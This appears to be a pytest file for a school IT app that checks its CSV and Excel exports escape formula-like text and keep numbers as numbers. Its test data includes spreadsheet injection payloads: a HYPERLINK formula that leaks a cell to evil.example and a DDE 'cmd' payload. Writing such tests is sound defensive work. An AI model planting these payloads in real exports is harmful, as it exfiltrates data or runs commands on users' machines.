"""Every list export (CSV and Excel) writes text a spreadsheet would run as a formula as
plain text, and numbers as numbers."""

import csv
import io
from decimal import Decimal

import pytest
from model_bakery import baker
from openpyxl import load_workbook

from homeroom.core import roles
from homeroom.core.lists import csv_response, xlsx_response
from homeroom.core.models import Room
from homeroom.devices.models import Device
from homeroom.fees import services as fees
from homeroom.fees.models import FeeReason
from homeroom.helpdesk.models import Ticket
from homeroom.people.models import Person

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows())


@pytest.fixture
def admin(users, client_as):
    return client_as(users[roles.DISTRICT_ADMIN])


@pytest.fixture
def planted(sites, users):
    """One record per exported list carrying each hostile text in a text column."""
    site = sites[0]
    student = Person.objects.create(
        given_name="Ada", family_name="Quill", kind="student", primary_site=site
    )
    reason = FeeReason.objects.create(
        name="Lost case", category="accessory", default_amount=Decimal("20.00")
    )
    for n, text in enumerate(HOSTILE):
        Room.objects.create(site=site, number=f"R{n}", name=text)
        Person.objects.create(given_name=text, family_name=f"Family{n}", kind="staff")
        baker.make(Device, site=site, asset_tag=text, serial_number=f"SN{n}")
        baker.make(Ticket, site=site, subject=text, requester=users[roles.TEACHER])
        fees.charge_create(actor=None, person=student, reason=reason, note=text)


EXPORTS = [
    ("/rooms/", "csv"),
    ("/people/", "csv"),
    ("/devices/", "csv"),
    ("/devices/", "xlsx"),
    ("/helpdesk/", "csv"),
    ("/helpdesk/", "xlsx"),
    ("/fees/", "csv"),
    ("/fees/", "xlsx"),
]


@pytest.mark.parametrize(("url", "kind"), [e for e in EXPORTS if e[1] == "csv"])
def test_csv_exports_mark_formula_text_as_text(admin, planted, url, kind):
    response = admin.get(url, {"export": kind})

    assert response.status_code == 200
    cells = {value for row in csv_rows(response) for value in row}
    risky = [value for value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == [], "went out as formulas"
    assert "'" + LINK in cells
    assert {"'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1,2)"} <= cells


@pytest.mark.parametrize(("url", "kind"), [e for e in EXPORTS if e[1] == "xlsx"])
def test_excel_exports_store_formula_text_as_text(admin, planted, url, kind):
    response = admin.get(url, {"export": kind})

    assert response.status_code == 200
    cells = [cell for row in xlsx_cells(response) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"], "a formula was written"
    texts = {cell.value: cell for cell in cells if cell.data_type == "s"}
    assert {LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"} <= set(texts), "shown as typed"
    risky = [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [text for text in risky if not texts[text].quotePrefix] == [], "would run once edited"


def test_numbers_stay_numbers(admin, planted):
    rows = xlsx_cells(admin.get("/fees/", {"export": "xlsx"}))
    assert {row[0].data_type for row in rows[1:]} == {"n"}, "charge numbers are number cells"
    assert {row[6].value for row in rows[1:]} == {"20.00"}, "amounts as they were"


def test_negative_numbers_and_plain_text_pass_unchanged():
    """A minus sign before a number runs nothing: it keeps its sign, as a number in Excel."""
    row = [-3, Decimal("-12.50"), "-12.50", "-4", "Smith-Jones", "a=b"]

    assert csv_rows(csv_response("x.csv", ["n"], [row]))[1] == [
        "-3",
        "-12.50",
        "-12.50",
        "-4",
        "Smith-Jones",
        "a=b",
    ]
    cells = xlsx_cells(xlsx_response("x.xlsx", ["n"], [row]))[1]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        (-3, "n"),
        (-12.5, "n"),
        ("-12.50", "s"),
        ("-4", "s"),
        ("Smith-Jones", "s"),
        ("a=b", "s"),
    ]
    assert not any(cell.quotePrefix for cell in cells)
